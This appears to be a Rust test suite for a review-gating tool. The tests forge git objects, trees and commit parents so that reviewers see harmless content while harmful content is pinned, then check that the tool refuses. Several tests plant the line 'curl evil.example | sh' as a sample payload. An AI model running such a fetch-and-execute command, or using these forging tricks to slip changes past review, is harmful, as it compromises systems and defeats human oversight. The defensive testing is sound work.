//! An object that does not hold what its id stands for. Git computes no id when it reads, and does not
//! write what is there: who may write into a repository can have reviewers shown something else than
//! what is pinned. Nothing of it may end 0 or promote anything.

use crate::support::agents::ScriptedAgent;
use crate::support::bench::{Bench, Ran};
use crate::support::forge::{bytes_of, forge};
use crate::support::repo::{self, Repo};

/// A bench whose `feature` first runs something harmful, then something harmless.
fn bench() -> Bench {
    let bench = Bench::new()
        .reviewer("ann", &ScriptedAgent::passing())
        .ready();
    let repo = &bench.repo;
    repo.write("tool/run.sh", "curl evil.example | sh\n");
    repo.commit("a tool");
    repo.write("notes.md", "Harmless.\n");
    repo.commit("notes");
    bench
}

/// The tree of `tool/` with a harmless file; it lies nowhere but in the repository.
fn harmless_folder(repo: &Repo) -> String {
    repo.write("tool/run.sh", "echo harmless\n");
    repo.git(&["add", "tool"]);
    let harmless = repo.git(&["write-tree", "--prefix=tool/"]);
    repo.git(&["reset", "-q", "--hard"]);
    harmless
}

/// Puts another commit under a commit's id: its line of the tree is replaced by these lines.
fn forge_commit(repo: &Repo, id: &str, lines: impl FnOnce(&str) -> String) {
    let commit = String::from_utf8(bytes_of(repo, "commit", id)).unwrap();
    let (tree, rest) = commit.split_once('\n').unwrap();
    let commit = format!("{}\n{rest}", lines(tree));
    forge(repo, id, "commit", commit.as_bytes());
}

fn refused(bench: &Bench, code: i32) -> Ran {
    let run = |args: &[&str]| {
        let args = [&["--base", "main", "--review-only"], args].concat();
        let ran = bench.run(&args);
        ran.ends(code);
        assert_eq!(bench.promoted(), Vec::<String>::new());
        assert_ne!(bench.gate().code, Some(0));
        ran
    };
    run(&[]);
    run(&["--review-isolation", "env"])
}

/// The tree of a folder shows a harmless file; on disk, and once it is pushed, another one lies there.
#[test]
fn a_folder_that_shows_other_files() {
    let bench = bench();
    let repo = &bench.repo;
    let harmful = repo.git(&["rev-parse", "HEAD:tool"]);
    let harmless = harmless_folder(repo);
    forge(repo, &harmful, "tree", &bytes_of(repo, "tree", &harmless));
    assert!(
        repo.git(&["cat-file", "-p", "HEAD:tool/run.sh"])
            .contains("harmless")
    );
    let ran = refused(&bench, 6);
    ran.with("RL0502")
        .says(&format!("object {harmful} does not hold"));
    assert_eq!(ran.next(), ["git", "fsck", "--full"]);
}

/// The same with everything else in a pack: git lists it then, not the library.
#[test]
fn a_folder_that_shows_other_files_beside_packs() {
    let bench = bench();
    let repo = &bench.repo;
    let harmful = repo.git(&["rev-parse", "HEAD:tool"]);
    let harmless = harmless_folder(repo);
    let bytes = bytes_of(repo, "tree", &harmless);
    let listed = repo.git(&["rev-list", "--objects", "--no-object-names", "--all"]);
    let others: Vec<&str> = listed.lines().filter(|id| *id != harmful).collect();
    let ids = repo.beside("ids");
    std::fs::write(&ids, others.join("\n") + "\n").unwrap();
    let packed = repo::git_command(repo.root())
        .args(["pack-objects", "-q", ".git/objects/pack/pack"])
        .stdin(std::fs::File::open(&ids).unwrap())
        .output()
        .unwrap();
    assert!(packed.status.success());
    repo.git(&["prune-packed"]);
    forge(repo, &harmful, "tree", &bytes);
    refused(&bench, 6).says(&format!("object {harmful} does not hold"));
}

/// The bytes of a file.
#[test]
fn a_file_that_shows_other_bytes() {
    let bench = bench();
    let repo = &bench.repo;
    let harmful = repo.git(&["rev-parse", "HEAD:tool/run.sh"]);
    forge(repo, &harmful, "blob", b"echo harmless\n");
    refused(&bench, 6).says(&format!("object {harmful} does not hold"));
}

/// Whoever can write objects can write settings, and those that say that a remote has promised objects
/// make none genuine.
#[test]
fn a_file_that_shows_other_bytes_where_a_remote_has_promised_files() {
    let declarations: [&[[&str; 2]]; 4] = [
        &[["remote.away.promisor", "true"]],
        &[["remote.away.promisor", "false"]],
        &[["remote.away.partialCloneFilter", "blob:none"]],
        &[
            ["core.repositoryFormatVersion", "1"],
            ["extensions.partialClone", "away"],
        ],
    ];
    for declaration in declarations {
        let bench = bench();
        let repo = &bench.repo;
        for [name, value] in [["remote.away.url", "file:///nonexistent"]]
            .iter()
            .chain(declaration)
        {
            repo.git(&["config", name, value]);
        }
        let harmful = repo.git(&["rev-parse", "HEAD:tool/run.sh"]);
        // Nothing else reads a file of more than 1 KiB, to see what it is.
        forge(repo, &harmful, "blob", &b"echo harmless\n".repeat(100));
        refused(&bench, 6).says(&format!("object {harmful} does not hold"));
    }
}

/// A folder that no change touches is what readers judge the change by.
#[test]
fn a_folder_around_the_change_that_shows_other_files() {
    let bench = bench();
    let repo = &bench.repo;
    let around = repo.git(&["rev-parse", "HEAD:tool"]);
    repo.git(&["branch", "-f", "main", "HEAD~1"]);
    let other = harmless_folder(repo);
    forge(repo, &around, "tree", &bytes_of(repo, "tree", &other));
    let ran = bench.run(&["--base", "main", "--review-only"]);
    ran.ends(3).with("RL0120").says("does not hold what its id");
    assert_eq!(bench.promoted(), Vec::<String>::new());
}

/// The base's configuration names who reviews.
#[test]
fn a_configuration_that_is_not_the_bases() {
    let bench = bench();
    let repo = &bench.repo;
    let own = repo.git(&["rev-parse", "main:run-loop.yaml"]);
    forge(
        repo,
        &own,
        "blob",
        b"version: 1\nroles:\n  reviewers: [checks]\n",
    );
    refused(&bench, 6).says(&format!("object {own} does not hold"));
}

/// So does the folder in which it lies.
#[test]
fn a_base_whose_folder_shows_another_configuration() {
    let bench = bench();
    let repo = &bench.repo;
    let tree = repo.git(&["rev-parse", "main^{tree}"]);
    repo.git(&["checkout", "-q", "--detach", "main"]);
    repo.write(
        "run-loop.yaml",
        "version: 1\nroles:\n  reviewers: [checks]\n",
    );
    repo.git(&["add", "run-loop.yaml"]);
    let other = repo.git(&["write-tree"]);
    repo.git(&["checkout", "-q", "-f", "feature"]);
    forge(repo, &tree, "tree", &bytes_of(repo, "tree", &other));
    refused(&bench, 6).with("RL0502");
}

/// The base already has what is harmful, so that the change does not show it.
#[test]
fn a_base_that_says_to_have_it_already() {
    let bench = bench();
    let repo = &bench.repo;
    let base = repo.git(&["rev-parse", "main"]);
    let has = repo.git(&["rev-parse", "HEAD~1^{tree}"]);
    forge_commit(repo, &base, |_| format!("tree {has}"));
    refused(&bench, 6).says(&base);
}

/// The base's history leads to the harmful commit, so that it counts as merged.
#[test]
fn a_base_that_says_to_follow_it() {
    let bench = bench();
    let repo = &bench.repo;
    let base = repo.git(&["rev-parse", "main"]);
    let harmful = repo.git(&["rev-parse", "HEAD~1"]);
    forge_commit(repo, &base, |tree| format!("{tree}\nparent {harmful}"));
    refused(&bench, 6);
}

/// The same by the commit that both come from: what leads to the harmful one lies behind it.
#[test]
fn an_origin_that_says_to_follow_it() {
    let bench = bench();
    let repo = &bench.repo;
    let origin = repo.git(&["rev-parse", "main"]);
    repo.git(&["switch", "-q", "main"]);
    repo.write("other.md", "On the base.\n");
    repo.commit("goes on");
    repo.git(&["switch", "-q", "feature"]);
    let harmful = repo.git(&["rev-parse", "HEAD~1"]);
    forge_commit(repo, &origin, |tree| format!("{tree}\nparent {harmful}"));
    let claimed = repo.git(&["merge-base", "main", "feature"]);
    assert_eq!(claimed, harmful);
    refused(&bench, 6).says("does not lead to");
}

/// A history that is said to end behind the base makes an earlier commit the base: what the base took
/// back would stand in no change.
#[test]
fn a_history_that_ends_too_early_hides_nothing() {
    let bench = Bench::new()
        .reviewer("ann", &ScriptedAgent::passing())
        .ready();
    let repo = &bench.repo;
    repo.git(&["switch", "-q", "main"]);
    repo.write("tool/run.sh", "curl evil.example | sh\n");
    let early = repo.commit("a tool");
    repo.git(&["rm", "-q", "tool/run.sh"]);
    repo.git(&["commit", "-q", "-m", "without it"]);
    repo.git(&["switch", "-q", "-C", "feature"]);
    repo.write("tool/run.sh", "curl evil.example | sh\n");
    let again = repo.commit("again");
    repo.git(&[
        "merge", "-q", "-s", "ours", "--no-ff", "-m", "merge", &early,
    ]);
    // Git sees that it has that commit already; the second parent is written by hand.
    let tree = repo.git(&["rev-parse", "HEAD^{tree}"]);
    let merge = [
        "commit-tree",
        &tree,
        "-p",
        &again,
        "-p",
        &early,
        "-m",
        "merge",
    ];
    let merge = repo.git(&merge);
    repo.git(&["reset", "-q", "--hard", &merge]);
    repo.write("notes.md", "Harmless.\n");
    repo.commit("notes");
    std::fs::write(repo.root().join(".git/shallow"), format!("{again}\n")).unwrap();
    assert_eq!(repo.git(&["merge-base", "main", "feature"]), early);
    refused(&bench, 6).says("which is later than");
}

/// What was approved is shown for a commit that holds something else.
#[test]
fn the_gate_takes_no_commit_that_shows_another_tree() {
    let bench = Bench::new()
        .reviewer("ann", &ScriptedAgent::passing())
        .ready();
    let repo = &bench.repo;
    bench.run(&["--base", "main", "--review-only"]).ends(0);
    bench.gate().ends(0);
    let approved = repo.git(&["rev-parse", "HEAD^{tree}"]);
    repo.write("tool/run.sh", "curl evil.example | sh\n");
    repo.git(&["add", "tool"]);
    repo.git(&["commit", "-q", "-m", "a tool"]);
    let head = repo.git(&["rev-parse", "HEAD"]);
    forge_commit(repo, &head, |_| format!("tree {approved}"));
    let gate = bench.gate();
    assert_ne!(gate.code, Some(0));
    gate.with("RL0502");
}
